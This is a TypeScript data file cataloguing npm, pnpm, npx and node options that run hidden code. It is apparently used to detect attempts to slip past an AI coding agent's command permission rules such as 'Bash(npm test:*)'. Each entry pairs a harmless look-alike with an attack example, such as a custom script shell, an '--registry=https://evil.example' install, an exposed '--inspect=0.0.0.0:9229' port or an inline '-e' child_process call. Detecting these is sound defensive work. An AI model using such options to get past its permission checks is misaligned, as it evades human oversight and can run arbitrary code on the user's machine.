import type { CodeRunningOption } from './code-running-options.js';

const NPM = ['npm', 'pnpm'];
const NPM_DOCS = 'docs.npmjs.com/cli/v10/using-npm/config';
const NODE_DOCS = 'nodejs.org/api/cli.html';

/** Options of npm, pnpm, npx and node that run code the command line does not show. */
export const JS_CODE_RUNNING_OPTIONS: readonly CodeRunningOption[] = [
  // npm and pnpm: configuration given on the command line applies to the scripts they run.
  {
    program: NPM,
    trigger: { kind: 'option', names: ['--node-options'] },
    runs: 'Node.js options for every script (--require loads a module)',
    source: `${NPM_DOCS}#node-options`,
    example: {
      rule: 'Bash(npm test:*)',
      attack: 'npm test --node-options=--require=./x.js',
      lookAlike: 'npm test -- --coverage',
    },
  },
  {
    program: NPM,
    trigger: { kind: 'option', names: ['--script-shell'] },
    runs: 'the shell that runs every script',
    source: `${NPM_DOCS}#script-shell`,
    example: { rule: 'Bash(npm test:*)', attack: 'npm test --script-shell=./evil.sh', lookAlike: 'npm test --silent' },
  },
  {
    program: NPM,
    trigger: { kind: 'option', names: ['--userconfig', '--globalconfig'] },
    runs: 'another .npmrc, which can set script-shell and node-options',
    source: `${NPM_DOCS}#userconfig`,
    example: {
      rule: 'Bash(npm test:*)',
      attack: 'npm test --userconfig ./evil.npmrc',
      lookAlike: 'npm test --workspaces',
    },
  },
  {
    program: NPM,
    trigger: { kind: 'option', names: ['--prefix', '-C'] },
    runs: "another folder's package.json scripts",
    source: `${NPM_DOCS}#prefix`,
    example: { rule: 'Bash(npm test:*)', attack: 'npm test --prefix /tmp/evil', lookAlike: 'npm test --if-present' },
  },
  {
    program: NPM,
    trigger: { kind: 'option', names: ['--call', '-c'] },
    runs: 'a command line (npm exec -c)',
    source: `${NPM_DOCS}#call`,
    example: {
      rule: 'Bash(npm exec tsc:*)',
      attack: "npm exec tsc -c 'touch marker'",
      lookAlike: 'npm exec tsc --no-install',
    },
  },
  {
    program: NPM,
    trigger: { kind: 'option', names: ['--package'] },
    runs: "another package's program (npm exec)",
    source: `${NPM_DOCS}#package`,
    example: { rule: 'Bash(npm exec tsc:*)', attack: 'npm exec tsc --package=evil', lookAlike: 'npm exec tsc --yes' },
  },
  {
    program: NPM,
    trigger: { kind: 'option', names: ['--shell', '--editor', '--browser', '--viewer', '--git', '--init-module'] },
    runs: 'a program or module npm starts (explore, edit, docs, help, git dependencies, init)',
    source: `${NPM_DOCS}#shell`,
    example: {
      rule: 'Bash(npm install:*)',
      attack: 'npm install --git=./evil',
      lookAlike: 'npm install --save-dev typescript',
    },
  },
  {
    program: NPM,
    subcommands: ['install', 'i', 'add', 'ci', 'update', 'up'],
    trigger: { kind: 'option', names: ['--registry'] },
    runs: 'packages from another registry, with their install scripts',
    source: `${NPM_DOCS}#registry`,
    example: {
      rule: 'Bash(npm ci:*)',
      attack: 'npm ci --registry=https://evil.example',
      lookAlike: 'npm ci --no-audit',
    },
  },
  {
    program: ['npx'],
    trigger: { kind: 'option', names: ['--call', '-c', '--package', '-p', '--node-options', '--userconfig'] },
    runs: 'a command line or another package (npx options before the command)',
    source: 'docs.npmjs.com/cli/v10/commands/npx',
    example: {
      rule: 'Bash(npx --yes:*)',
      attack: "npx --yes -c 'touch marker'",
      lookAlike: 'npx --yes tsc --noEmit -p .',
    },
  },
  // node: options before the script.
  {
    program: ['node'],
    trigger: { kind: 'option', names: ['--require', '-r', '--import', '--loader', '--experimental-loader'] },
    runs: 'a module loaded before the program',
    source: `${NODE_DOCS}#-r---require-module`,
    example: { rule: 'Bash(node --test:*)', attack: 'node --test --require=./x.js', lookAlike: 'node --test src' },
  },
  {
    program: ['node'],
    trigger: { kind: 'option', names: ['--eval', '-e', '--print', '-p'] },
    runs: 'code given on the command line',
    source: `${NODE_DOCS}#-e---eval-script`,
    example: {
      rule: 'Bash(node --test:*)',
      attack: "node --test -e 'require(`child_process`)'",
      lookAlike: 'node --test --test-name-pattern=x',
    },
  },
  {
    program: ['node'],
    trigger: {
      kind: 'option',
      names: ['--env-file', '--env-file-if-exists', '--openssl-config', '--experimental-config-file'],
    },
    runs: 'a file that can set NODE_OPTIONS or load an engine',
    source: `${NODE_DOCS}#--env-fileconfig`,
    example: {
      rule: 'Bash(node --test:*)',
      attack: 'node --test --env-file=./evil.env',
      lookAlike: 'node --test --test-only',
    },
  },
  {
    program: ['node'],
    trigger: { kind: 'option', names: ['--inspect', '--inspect-brk', '--inspect-wait', '--inspect-port'] },
    runs: 'a debugger port anyone who reaches it can run code through',
    source: `${NODE_DOCS}#--inspecthostport`,
    example: {
      rule: 'Bash(node --test:*)',
      attack: 'node --test --inspect=0.0.0.0:9229',
      lookAlike: 'node --test --test-concurrency=1',
    },
  },
  {
    program: ['node'],
    trigger: { kind: 'option', names: ['--test-reporter'], unless: /^(spec|tap|dot|junit|lcov)$/ },
    runs: 'a reporter module that is not one of the built-in ones',
    source: `${NODE_DOCS}#--test-reporter`,
    example: {
      rule: 'Bash(node --test:*)',
      attack: 'node --test --test-reporter=./evil.mjs',
      lookAlike: 'node --test --test-reporter=spec',
    },
  },
];
